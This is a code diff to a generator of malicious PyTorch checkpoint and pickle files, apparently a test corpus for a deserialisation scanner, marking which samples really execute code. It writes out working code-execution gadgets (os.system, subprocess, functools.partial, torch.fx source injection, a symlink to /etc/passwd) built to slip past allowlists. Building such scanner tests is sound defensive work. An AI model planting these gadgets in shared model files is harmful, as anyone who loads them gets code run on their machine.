@@ -33,7 +33,8 @@ class Case:
     name: str  # path relative to the corpus folder (a file, or a folder for sharded checkpoints)
     family: str
     expect: str  # "unsafe" or "format"
-    dangerous: bool  # carries a code-execution gadget
+    dangerous: bool  # names a known code-execution callable (what scanners look for)
+    live: bool  # verified: pickle.load / torch.load(weights_only=False) of it runs code here
     note: str
 
 
@@ -92,8 +93,11 @@ def ordered_dict() -> bytes:
     return call(g("collections", "OrderedDict"))
 
 
-def storage_pid(key: str = "0", numel: int = 4, kind: bytes | None = None, location: str = "cpu") -> bytes:
-    return t(s("storage"), kind or g("torch", "FloatStorage"), s(key), s(location), i(numel)) + b"Q"
+def storage_pid(key: str = "0", numel: int = 4, kind: bytes | None = None, location: str = "cpu",
+                stream: bool = False) -> bytes:
+    """A storage persistent id; the stream format adds a sixth part (view metadata)."""
+    parts = [s("storage"), kind or g("torch", "FloatStorage"), s(key), s(location), i(numel)]
+    return t(*parts, *([b"N"] if stream else [])) + b"Q"
 
 
 def tensor(pid: bytes | None = None, size: int | tuple[int, ...] = 4, stride: tuple[int, ...] | None = None,
@@ -158,23 +162,28 @@ class _Corpus:
         return os.path.join(self.folder, name)
 
     def add(self, name: str, family: str, expect: str, dangerous: bool, note: str,
-            writer: Callable[[str], None]) -> None:
+            writer: Callable[[str], None], *, live: bool = False) -> None:
         writer(self.path(name))
-        self.cases.append(Case(name, family, expect, dangerous, note))
+        self.cases.append(Case(name, family, expect, dangerous, live, note))
 
     def gadget(self, name: str, family: str, body: bytes, note: str, *, containers: str = "zps",
-               protocol: int = 2, expect: str = "unsafe") -> None:
-        """One main pickle, embedded next to a real tensor in each requested container."""
-        wrapped = checkpoint(("weight", tensor()), ("payload", body))
-        main = p2(wrapped) if protocol == 2 else (p4(wrapped) if protocol == 4 else wrapped + b".")
-        bare = p2(body) if protocol == 2 else (p4(body) if protocol == 4 else body + b".")
+               protocol: int = 2, expect: str = "unsafe", live: bool = True, dangerous: bool = True) -> None:
+        """One main pickle, embedded after a real tensor in each requested container."""
+
+        def frame(inner: bytes) -> bytes:
+            return p2(inner) if protocol == 2 else (p4(inner) if protocol == 4 else inner + b".")
+
+        in_zip = frame(checkpoint(("weight", tensor()), ("payload", body)))
+        in_stream = frame(checkpoint(("weight", tensor(storage_pid(stream=True))), ("payload", body)))
         if "z" in containers:
-            self.add(f"{name}.zip.pt", family, expect, True, note + " (zip)", lambda p: torch_zip(p, main))
+            self.add(f"{name}.zip.pt", family, expect, dangerous, note + " (zip)", lambda p: torch_zip(p, in_zip),
+                     live=live)
         if "s" in containers:
-            self.add(f"{name}.stream.pt", family, expect, True, note + " (stream)",
-                     lambda p: write(p, stream_bytes(main)))
+            self.add(f"{name}.stream.pt", family, expect, dangerous, note + " (stream)",
+                     lambda p: write(p, stream_bytes(in_stream)), live=live)
         if "p" in containers:
-            self.add(f"{name}.pkl", family, expect, True, note + " (plain pickle)", lambda p: write(p, bare))
+            self.add(f"{name}.pkl", family, expect, dangerous, note + " (plain pickle)",
+                     lambda p: write(p, frame(body)), live=live)
 
 
 def write_corpus(folder: str, *, marker: str | None = None) -> list[Case]:
@@ -202,7 +211,8 @@ def _gadgets(c: _Corpus) -> None:
              "STACK_GLOBAL posix.system, protocol 4 with FRAME", protocol=4)
     c.gadget("subprocess_popen", "gadget:subprocess",
              call(g("subprocess", "Popen"), b"]" + b"(" + s("touch") + s(marker) + b"e"), "subprocess.Popen(list)")
-    c.gadget("subprocess_run", "gadget:subprocess", call(g("subprocess", "check_output"), s(cmd)) , "subprocess.check_output",
+    c.gadget("subprocess_run", "gadget:subprocess",
+             call(g("subprocess", "check_output"), b"](" + s("touch") + s(marker) + b"e"), "subprocess.check_output",
              containers="z")
     c.gadget("builtins_eval", "gadget:builtins",
              call(g("__builtin__", "eval"), s(f"__import__('os').system({cmd!r})")), "eval via py2 name")
@@ -214,15 +224,16 @@ def _gadgets(c: _Corpus) -> None:
              call(call(g("builtins", "getattr"), call(g("builtins", "__import__"), s("os")), s("system")), s(cmd)),
              "getattr(__import__('os'), 'system')(cmd)")
     c.gadget("importlib_chain", "gadget:attribute-chain",
-             call(call(g("operator", "attrgetter"), s("system")), call(g("importlib", "import_module"), s("os"))),
-             "operator.attrgetter('system')(importlib.import_module('os'))", containers="zp")
+             call(call(call(g("operator", "attrgetter"), s("system")), call(g("importlib", "import_module"), s("os"))),
+                  s(cmd)),
+             "operator.attrgetter('system')(importlib.import_module('os'))(cmd)", containers="zp")
     c.gadget("methodcaller", "gadget:attribute-chain",
              call(call(g("operator", "methodcaller"), s("system"), s(cmd)), call(g("builtins", "__import__"), s("os"))),
              "operator.methodcaller('system', cmd)(os)", containers="z")
     memo_names = b"\x8c\x02os\x94\x8c\x06system\x94" + b"0" + b"0" + b"h\x00h\x01\x93"
     c.gadget("stack_global_memo", "gadget:stack-global", memo_names + s(cmd) + b"\x85R",
              "STACK_GLOBAL whose names come from the memo", protocol=4)
-    computed = call(g("_codecs", "encode"), s("os"), s("latin1")) + short("system") + b"\x93"
+    computed = call(g("_codecs", "decode"), b"C\x02os", s("latin1")) + short("system") + b"\x93"
     c.gadget("stack_global_computed", "gadget:stack-global", computed + s(cmd) + b"\x85R",
              "STACK_GLOBAL whose module name is computed by a call", protocol=4)
     via_str = call(g("builtins", "str"), s("os")) + short("system") + b"\x93"
@@ -231,11 +242,12 @@ def _gadgets(c: _Corpus) -> None:
     c.gadget("inst_opcode", "gadget:inst-obj", b"(" + b"V" + cmd.encode() + b"\nios\nsystem\n",
              "INST opcode", protocol=0)
     c.gadget("obj_opcode", "gadget:inst-obj", b"(" + g("os", "system") + s(cmd) + b"o", "OBJ opcode")
-    c.gadget("newobj_popen", "gadget:newobj", g("subprocess", "Popen") + t(b"](" + s("touch") + s(marker) + b"e") + b"\x81",
-             "NEWOBJ subprocess.Popen")
-    c.gadget("newobj_ex_popen", "gadget:newobj",
-             sg("subprocess", "Popen") + t(b"](" + s("touch") + s(marker) + b"e") + b"}(" + s("shell") + b"\x89u" + b"\x92",
-             "NEWOBJ_EX subprocess.Popen with kwargs", protocol=4)
+    c.gadget("newobj_partial", "gadget:newobj", g("functools", "partial") + t(g("os", "system"), s(cmd)) + b"\x81)R",
+             "NEWOBJ functools.partial(os.system, cmd), then REDUCE calls it")
+    c.gadget("newobj_ex_partial", "gadget:newobj",
+             sg("functools", "partial") + t(sg("subprocess", "call")) + b"}(" + short("args") + b"](" + s("touch")
+             + s(marker) + b"eu" + b"\x92)R",
+             "NEWOBJ_EX functools.partial(subprocess.call, args=[...]) with kwargs, then REDUCE", protocol=4)
     build = (
         g("argparse", "Namespace") + b")\x81"  # an allowed record
         + t(b"}", b"}(" + s("__setstate__") + g("os", "system") + b"u") + b"b"  # slot state sets __setstate__
@@ -250,8 +262,10 @@ def _gadgets(c: _Corpus) -> None:
              "BUILD on a trusted module with a __setstate__ attribute", containers="z")
     c.gadget("partial_call", "gadget:partial", call(call(g("functools", "partial"), g("os", "system"), s(cmd))),
              "functools.partial(os.system, cmd)()")
-    c.gadget("ext_code", "gadget:extension", b"\x82\x01" + s(cmd) + b"\x85R", "EXT1 copyreg extension registry")
-    c.gadget("main_class", "gadget:user-class", g("__main__", "Evil") + b")\x81}b", "__main__ class")
+    c.gadget("ext_code", "gadget:extension", b"\x82\x01" + s(cmd) + b"\x85R",
+             "EXT1: whatever the copyreg extension registry maps code 1 to", live=False, dangerous=False)
+    c.gadget("main_class", "gadget:user-class", g("__main__", "Evil") + b")\x81}b",
+             "a __main__ class (its __setstate__ would run)", live=False, dangerous=False)
     c.gadget("numpy_runstring", "gadget:numpy",
              call(g("numpy.testing._private.utils", "runstring"), s(f"__import__('os').system({cmd!r})"), b"}"),
              "numpy runstring exec", containers="zp")
@@ -266,36 +280,41 @@ def _gadgets(c: _Corpus) -> None:
 
 def _torch_gadgets(c: _Corpus) -> None:
     cmd, marker = c.cmd, c.marker
-    c.gadget("torch_load", "gadget:torch-internal", call(g("torch", "load"), s(marker)), "torch.load of another file",
-             containers="zp")
+    other = os.path.join(c.folder, "os_system.zip.pt")
+    c.gadget("torch_load", "gadget:torch-internal", call(g("torch", "load"), s(other)),
+             "torch.load of another malicious file (weights_only defaults to True in torch >= 2.6)",
+             containers="zp", live=False)
     c.gadget("torch_serialization_load", "gadget:torch-internal",
-             call(g("torch.serialization", "load"), s(marker), b"\x89"), "torch.serialization.load", containers="z")
-    c.gadget("torch_jit_load", "gadget:torch-internal", call(g("torch.jit", "load"), s(marker)), "torch.jit.load",
-             containers="z")
+             call(g("torch.serialization", "load"), s(other), b"N", b"N"),
+             "torch.serialization.load(f, map_location=None, pickle_module=None)", containers="z", live=False)
+    c.gadget("torch_jit_load", "gadget:torch-internal", call(g("torch.jit", "load"), s(other)),
+             "torch.jit.load (TorchScript code runs when called)", containers="z", live=False)
     c.gadget("torch_hub_load", "gadget:torch-internal", call(g("torch.hub", "load"), s("evil/repo"), s("m")),
-             "torch.hub.load", containers="z")
+             "torch.hub.load downloads and runs hubconf.py", containers="z", live=False)
+    fx_body = b"}(" + s("_code") + s(f"import os\nos.system({cmd!r})\ndef forward(self):\n    pass\n") + b"u"
     c.gadget("torch_fx_graph", "gadget:torch-internal",
-             call(g("torch.fx.graph_module", "reduce_graph_module"), b"}", s(f"import os\nos.system({cmd!r})")),
-             "torch.fx reduce_graph_module executes code", containers="z")
+             call(g("torch.fx.graph_module", "reduce_graph_module"), fx_body, s("")),
+             "torch.fx reduce_graph_module executes the source it is given", containers="z")
     c.gadget("trusted_reexport", "gadget:attribute-chain",
-             call(g("torch.nn.modules.module", "torch.load"), s(marker)),
-             "torch.load reached through a trusted module's re-export")
+             call(sg("torch.nn.parallel.distributed", "os.system"), s(cmd)),
+             "os.system reached through a trusted namespace's import of os (dotted name)", protocol=4)
     c.gadget("trusted_function_call", "gadget:trusted-function",
              call(g("torch.nn.modules.module", "register_module_forward_hook"), g("torch.nn.functional", "relu")),
-             "calling a function of a trusted namespace", containers="z", expect="format")
+             "calling a function of a trusted namespace", containers="z", expect="format", live=False,
+             dangerous=False)
     c.gadget("rebuild_from_type_gadget", "gadget:torch-internal",
              call(g("torch._tensor", "_rebuild_from_type_v2"), g("os", "system"), g("torch", "Tensor"), t(s(cmd)), b"}"),
              "_rebuild_from_type_v2 wrapping os.system")
     c.gadget("storage_type_gadget", "gadget:persistent-id",
              tensor(pid=storage_pid(kind=g("os", "system"))), "persistent id whose storage type is os.system",
-             containers="z")
+             containers="z", live=False)
     module_pid = t(s("module"), g("os", "system"), s("x.py"), s("")) + b"Q" + t(s(cmd)) + b"R"
     c.gadget("module_pid_call", "gadget:persistent-id", module_pid,
              "('module', os.system, ...) persistent id, then REDUCE (torch's legacy loader returns the class)",
              containers="s")
     c.gadget("wrapper_subclass", "gadget:torch-internal",
              call(g("torch._utils", "_rebuild_wrapper_subclass"), g("os", "system")), "unlisted torch rebuild",
-             containers="z")
+             containers="z", live=False)
 
 
 def _resource_bombs(c: _Corpus) -> None:
@@ -516,7 +535,7 @@ def _zip_attacks(c: _Corpus) -> None:
 
 
 def _stream_and_tar(c: _Corpus) -> None:
-    main = p2(checkpoint(("weight", tensor())))
+    main = p2(checkpoint(("weight", tensor(storage_pid(stream=True)))))
     good = stream_bytes(main)
     c.add("stream_truncated.pt", "stream:truncated", "format", False, "storage bytes cut short",
           lambda p: write(p, good[:-5]))
@@ -528,7 +547,7 @@ def _stream_and_tar(c: _Corpus) -> None:
                    + p2(call(g("os", "system"), s(c.cmd))) + main + pickle.dumps(["0"], protocol=2)
                    + struct.pack("<q", 4) + bytes(16))
     c.add("stream_sysinfo_gadget.pt", "gadget:os.system", "unsafe", True, "gadget in the system-info pickle",
-          lambda p: write(p, gadget_info))
+          lambda p: write(p, gadget_info), live=True)
 
     def tar(path: str, members: list[tuple[str, bytes, bytes]]) -> None:
         with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as archive:
@@ -546,7 +565,7 @@ def _stream_and_tar(c: _Corpus) -> None:
     tensors = pickle.dumps(0, protocol=2)
     gadget = p2(call(g("os", "system"), s(c.cmd)))
     c.add("tar_gadget.pt", "gadget:os.system", "unsafe", True, "pre-1.0 tar whose pickle runs os.system",
-          lambda p: tar(p, [("storages", storages, b""), ("tensors", tensors, b""), ("pickle", gadget, b"")]))
+          lambda p: tar(p, [("storages", storages, b""), ("tensors", tensors, b""), ("pickle", gadget, b"")]), live=True)
     c.add("tar_symlink.pt", "tar:symlink", "format", False, "tar member that is a symlink",
           lambda p: tar(p, [("storages", b"/etc/passwd", tarfile.SYMTYPE), ("tensors", tensors, b""),
                             ("pickle", p2(b"N"), b"")]))
@@ -555,7 +574,7 @@ def _stream_and_tar(c: _Corpus) -> None:
 
     def sharded(path: str, weight_map: dict[str, str]) -> None:
         os.makedirs(path, exist_ok=True)
-        torch_zip(os.path.join(path, "pytorch_model-00001-of-00001.bin"), main)
+        torch_zip(os.path.join(path, "pytorch_model-00001-of-00001.bin"), p2(checkpoint(("weight", tensor()))))
         with open(os.path.join(path, "pytorch_model.bin.index.json"), "w") as stream:
             json.dump({"metadata": {}, "weight_map": weight_map}, stream)
 
